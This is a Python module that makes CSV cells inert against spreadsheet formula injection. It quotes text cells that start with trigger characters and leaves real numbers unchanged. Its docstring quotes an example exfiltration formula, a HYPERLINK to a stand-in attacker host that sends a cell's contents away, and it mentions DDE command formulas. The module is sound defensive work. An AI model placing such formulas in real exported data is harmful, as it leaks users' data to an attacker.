"""CSV cells made inert for spreadsheets (OWASP "CSV injection").

A name, id, state or type from the data that starts with `=`, `+`, `-` or `@` is read by
Excel, LibreOffice and Google Sheets as a formula when the CSV is opened
(`=HYPERLINK("http://evil.example/?"&A1,"click")` sends a cell away, `=cmd|...` asks for
DDE); a leading tab or carriage return is skipped by some of them, leaving the formula. Such
a cell is written with a leading `'`, which every one of them shows as text. A real number
(`-3`, `-2.5`, `-2,5`, `1e-3`) stays as it is: a negative figure must still be a number.
Number columns are never touched; only text columns are.

xlsx needs none of this: jctui.views.export writes strings as strings (no formulas, no
hyperlinks) through xlsxwriter's own options.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import polars as pl

TRIGGERS = "=+-@\t\r"
# What a spreadsheet takes for a plain number and what we write for one: an optional minus,
# digits with a decimal point or comma, an optional exponent. A leading "+" is never ours.
NUMBER_RE = r"^-?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$"
# the end of the text, not before a final newline as Python's `$` also matches ("-3\n")
_NUMBER = re.compile(NUMBER_RE.removesuffix("$") + r"\Z")
TRIGGER_RE = r"^[=+\-@\t\r]"
QUOTE = "'"


def inert_cell(text: str) -> str:
    """`text` as a CSV cell no spreadsheet evaluates: `'` before a formula trigger."""
    if text[:1] and text[0] in TRIGGERS and not _NUMBER.match(text):
        return QUOTE + text
    return text


def inert_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """`frame` with every text cell made inert (`inert_cell`); other columns as they are."""
    import polars as pl  # here: the presentation layer imports without Polars

    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not texts:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(TRIGGER_RE) & ~pl.col(name).str.contains(NUMBER_RE))
        .then(pl.lit(QUOTE) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in texts
    )
